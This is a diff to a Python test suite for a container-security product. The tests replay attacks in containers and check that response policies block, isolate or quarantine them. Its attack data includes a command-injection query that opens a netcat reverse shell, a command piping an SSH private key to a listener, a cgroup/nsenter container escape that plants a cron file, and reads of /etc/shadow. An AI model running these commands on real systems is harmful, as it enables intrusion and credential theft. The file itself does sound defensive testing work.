@@ -1,14 +1,18 @@
-"""The attacks of ATTACKS.md A1 to A14 in real containers, one after the other, with operators at work: one incident each, in order, with the true entry and nothing of others mixed in.
+"""The attacks of ATTACKS.md A1 to A14 in real containers, one after the other, with operators at work: one incident each, in order, with the true entry and nothing of others mixed in. Some of them once
+more, each with a policy that stops it.
 
 One engine, one sensor, one central. Each attack plays in containers of its own, which are killed as soon as its last act is done; then the incidents are looked at. All are played once, each is one test.
 """
+import concurrent.futures
 import contextlib
 import hashlib
 import json
 import pathlib
 import secrets
+import socket
 import statistics
 import subprocess
+import threading
 import time
 import urllib.parse
 
@@ -79,6 +83,17 @@ ATTACKS = {
          ("web", "plain", "/opt/learner true; cat /www/index.html")],
         ["initial-access", "credential-access", "execution"], {"Password hashes read", "Program that is not part of the image run"}, {"Server program started a shell"}),
 }
+# Attack: (what its policy says, kind of container, what is done until the policy acts, what is tried then). It may touch /ctl/trace, a file of the node or {host}:{port}: none of it may be there afterwards.
+STOPPED = {
+    "a3": ("when: {rules: Code written into another process}\naction: block\ndeny: [exec-not-in-image]", "plain", [SHELL, "/acts --dir /tmp process_vm.writev"], "cp /bin/busybox /opt/kit; /opt/kit touch /ctl/trace"),
+    "a5": ("when: {incident: {stages: [privilege-escalation]}}\naction: quarantine", "mighty", [SHELL, "dd if=/dev/zero of=/proc/{pid}/mem bs=1 count=1 conv=notrunc; true"], OUT % "echo x >/etc/cron.d/bh-trace-a5"),
+    "a6": ("when: {rules: Server program started a shell}\naction: block\ndeny: [exec-not-in-image]", "mighty", [SHELL],
+           "cp /bin/busybox /opt/kit; mkdir -p /cg; mount {cgroup} none /cg; /opt/kit sh -c 'echo $$ >/cg/cgroup.procs; exec nsenter -t {node} -m /bin/busybox touch /etc/cron.d/bh-trace-a6'; umount /cg"),
+    "a7": ("when: {rules: Network tool run in a container}\naction: isolate", "plain", [SHELL, "/bin/nc -w 1 127.0.0.1 9; true"], "echo x | nc -w 1 {host} {port}"),
+    "a8": ("when: {rules: Keys or credentials of others read by a tool}\naction: block\ndeny: ['{host}:{port}']", "plain", [SHELL, SECRET], "nc -w 1 {host} {port} </root/.ssh/id_rsa"),
+}
+# A1: the hole is there, but no shell starts any more
+STOPPED_WEB = "when: {incident: {stages: [initial-access]}}\naction: block\ndeny: ['exec:/bin/sh']"
 # At the same moment, in two containers of one application, act by act in turn.
 TWINS = [SHELL, "cat /etc/shadow", "rm /var/log/app.log"]
 
@@ -89,7 +104,7 @@ class World:
     def __init__(self, docker, build, backend):
         self.docker, self.tag = docker, secrets.token_hex(2)
         make_image(docker, build)
-        self.boxes, self.seconds = {}, {}
+        self.boxes, self.seconds, self.clients = {}, {}, threading.local()
         scratch = "for d in /etc/cron.d /etc/systemd/system; do mount -t tmpfs none $d; done; touch /run/bh-preload; exec sleep 600"
         self.node = subprocess.Popen(["unshare", "-m", "sh", "-c", f"mount -t tmpfs none /run; mkdir -p /run/e /run/w; mount -t overlay -o lowerdir=/etc,upperdir=/run/e,workdir=/run/w none /etc; {scratch}"])
         self.victim = subprocess.Popen(["sleep", "600"])
@@ -102,6 +117,17 @@ class World:
         except BaseException:
             self.close()
             raise
+
+    @property
+    def root(self):
+        """Each thread's own: a client asks one thing at a time."""
+        if not hasattr(self.clients, "root"):
+            self.clients.root = self.central.root()
+        return self.clients.root
+
+    @root.setter
+    def root(self, client):
+        self.clients.root = client
 
     def box(self, name, kind, project):
         if name not in self.boxes:
@@ -137,6 +163,7 @@ class World:
             self.seconds[attack] = time.monotonic() - begin
         self.web()
         self.twins()
+        self.play_stopped(words)
         for command in NORMAL.values():
             self.bystander.run(command, deadline=20, ok=None)
         self.latencies()
@@ -176,6 +203,82 @@ class World:
             for b, n in [(b, b.start(command)) for b in boxes]:
                 b.wait(n, ok=None)
         self.kill(*names)
+
+    def play_stopped(self, words):
+        """Side by side, for each mostly waits; .stopped are their incidents, .traces what of them came to be all the same."""
+        self.stopped, self.traces, self.arrived = {}, {}, []
+        host = self.docker.subnet.replace(".0/24", ".1")
+        server = socket.create_server((host, 0))
+        threading.Thread(target=self.take_arrived, args=(server,), daemon=True).start()
+        words = {**words, "host": host, "port": server.getsockname()[1]}
+        policies = {name: text for name, (text, *_) in STOPPED.items()} | {"a1": STOPPED_WEB}
+        for name, text in policies.items():
+            text = text.replace("{host}", host).replace("{port}", str(words["port"]))
+            scope = "victim-loop" if name == "a1" else self.name(f"stopped-{name}")
+            answer = self.root.put(f"/api/v1/policies/stop-{name}", {"confirm": f"stop-{name}", "text": f"name: stop-{name}\n{text}\nscope: {{containers: {scope}}}\ndry_run: false\nbest_effort: true\n"})
+            assert answer.status == 200, answer
+        wait_for(lambda: (lambda nodes: (all(n["state"] == "current" for n in nodes), nodes))(self.root.get("/api/v1/policies").json["nodes"]), 20, "the node has the policies")
+        with concurrent.futures.ThreadPoolExecutor(len(policies)) as pool:
+            for job in [pool.submit(self.stop_web, words), *(pool.submit(self.stop, name, words) for name in STOPPED)]:
+                job.result()
+        for name in policies:
+            assert self.root.delete(f"/api/v1/policies/stop-{name}").status == 204
+        server.close()
+
+    def take_arrived(self, server):
+        with contextlib.suppress(OSError):
+            while True:
+                conn, peer = server.accept()
+                self.arrived.append(peer)
+                conn.close()
+
+    def responded(self, name, ready=lambda r: True):
+        """The incident with the policy's response, as soon as that is in force and `ready`."""
+        def look():
+            found = [self.get(i["id"]) for i in self.list(container=name)]
+            return len(found) == 1 and any(r["state"] == "active" and ready(r) for r in found[0]["responses"]), [(i["id"], i["title"], i["responses"]) for i in found]
+        wait_for(look, 30, f"the policy acted on {name}")
+        return self.get(self.list(container=name)[0]["id"])
+
+    def stop(self, name, words):
+        _, kind, before, then = STOPPED[name]
+        box = self.name(f"stopped-{name}")
+        b = self.box(box, kind, box)
+        wait_for(lambda: self.root.get(f"/api/v1/containers/{b.id}").status == 200, 20, f"the central knows {box}")
+        for command in before:
+            b.run(command.format(**words) if "{" in command else command, ok=None)
+        self.responded(box)
+        n = b.start(then.format(**words))
+        if name == "a5":  # frozen: what comes is not even read
+            self.stopped[name] = self.responded(box)
+        else:
+            b.wait(n, ok=None)
+            self.stopped[name] = self.responded(box, lambda r: r["refused"]["acts"] + r["refused"]["packets"] + r["refused"]["calls"] > 0)
+        self.traces[name] = [p.name for p in b.dir.glob("trace")] + ([f"status.{n}"] if name == "a5" and (b.dir / f"status.{n}").exists() else [])
+        self.kill(box)  # as it is held: a frozen one would go on with what waits
+        self.released(self.stopped[name])
+
+    def stop_web(self, words):
+        victim = Victim(self.docker, "loop")
+        try:
+            def ask(target):
+                s = victim.connect()
+                send(s, "GET", target, {}, "")
+                receive(s)
+                s.close()
+            ask("/ping?host=" + urllib.parse.quote("127.0.0.1;cat /etc/passwd"))
+            self.responded(victim.name)
+            ask("/ping?host=" + urllib.parse.quote("127.0.0.1;nc {host} {port} -e /bin/sh".format(**words)))
+            self.stopped["a1"] = self.responded(victim.name, lambda r: r["refused"]["acts"] > 0)
+            ask("/")
+            self.traces["a1"] = []
+            self.released(self.stopped["a1"])
+        finally:
+            victim.close()
+
+    def released(self, incident):
+        for r in incident["responses"]:
+            assert self.root.post(f"/api/v1/responses/{r['id']}/release", {}).status in (200, 409), r  # 409: it ended with its container
 
     def latencies(self):
         """Seconds from before an act to its place in the incident, as the API tells it: the act's own time is in them."""
@@ -267,7 +370,7 @@ def check(i, names, order, rules, entry):
     return serious
 
 
-@pytest.mark.deadline(400)
+@pytest.mark.deadline(460)
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_an_attack_is_one_incident(world, attack):
     acts, order, rules, entry = ATTACKS[attack]
@@ -316,6 +419,24 @@ def test_web_attacks_are_one_incident_with_what_they_did(world):
     # what was sent, as it came
     kept = {e["path"].split("?")[0]: world.data(e).decode() for e in world.evidence(i, kind="request")}
     assert kept["/ping"].startswith("GET /ping?host=127.0.0.1") and "cat%20/etc/shadow" in kept["/ping"], kept
+
+
+@pytest.mark.parametrize("attack", ["a1", *STOPPED])
+def test_an_attack_is_stopped_by_its_policy(world, attack):
+    """At the stage that the policy names; and the incident tells what was refused."""
+    i = world.stopped[attack]
+    r, = i["responses"]
+    action = (STOPPED_WEB if attack == "a1" else STOPPED[attack][0]).split("action: ")[1].split("\n")[0]
+    assert (r["actor"], r["action"], r["state"]) == (f"policy:stop-{attack}", action, "active"), r
+    assert world.traces[attack] == [] and world.arrived == [], (world.traces, world.arrived)
+    cron = subprocess.run(["nsenter", "-t", str(world.node.pid), "-m", "ls", "/etc/cron.d"], capture_output=True, text=True, check=True).stdout
+    assert "bh-trace" not in cron, cron
+    assert "persistence" not in i["tactics"], i["tactics"]
+    text = world.central.cli("incident", str(i["id"])).stdout
+    assert "Responses" in text and f"policy:stop-{attack}" in text, text
+    if attack in ("a1", "a3", "a6"):
+        assert "was refused" in r["refused"]["last"] or "was killed before its first instruction" in r["refused"]["last"], r
+        assert ("busybox" if attack == "a1" else "kit") in r["refused"]["last"] and r["refused"]["last"] in text, (r, text)
 
 
 def test_two_attacks_at_once_in_one_application_are_two(world):
